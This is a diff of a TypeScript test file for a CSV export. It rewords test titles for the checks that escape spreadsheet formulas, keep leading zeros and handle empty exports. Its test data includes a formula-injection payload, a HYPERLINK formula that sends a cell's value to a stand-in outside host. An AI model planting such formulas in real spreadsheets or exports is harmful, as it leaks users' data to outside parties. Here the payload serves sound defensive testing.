@@ -14,7 +14,7 @@ async function csvOf(...batches: ExportRow[][]): Promise<string[][]> {
   return parse(await text(csvChunks(COLUMNS, rows)));
 }
 
-it('a name or a department that is a formula is none to a spreadsheet, and loses no character', async () => {
+it('escapes names and departments that a spreadsheet would run as a formula, and drops no character', async () => {
   const hostile = [
     '=HYPERLINK("http://example.com/?"&A1,"pay")',
     '+1+1',
@@ -39,7 +39,7 @@ it('a name or a department that is a formula is none to a spreadsheet, and loses
   expect(read).toEqual(hostile.map((name, at) => [String(at), `'${name}`, `'${name}`]));
 });
 
-it('whatever the texts are, no cell begins like a formula and each is found again', async () => {
+it('for any text, no cell begins like a formula and the text can be read back', async () => {
   await fc.assert(
     fc.asyncProperty(
       fc.array(fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n＝",;\' aé') }), { minLength: 1 }),
@@ -57,7 +57,7 @@ it('whatever the texts are, no cell begins like a formula and each is found agai
   );
 });
 
-it('zeros, moments, nested values and nothing come out as text', async () => {
+it('keeps leading zeros, and writes dates, nested values and null as text', async () => {
   const row = { employee_id: '000012', last_name: null, department_description: { row: 1 } };
   const other = { employee_id: '7', last_name: true, department_description: new Date(0) };
   expect(await csvOf([row], [other])).toEqual([
@@ -67,7 +67,7 @@ it('zeros, moments, nested values and nothing come out as text', async () => {
   ]);
 });
 
-it('nobody is a heading, and a failure before the first row is not even that', async () => {
+it('an empty export has only the heading, and a failure before the first row writes nothing', async () => {
   expect(await csvOf()).toEqual([COLUMNS]);
   const failing = (async function* (): AsyncGenerator<ExportRow[]> {
     await Promise.reject(new Error('away'));
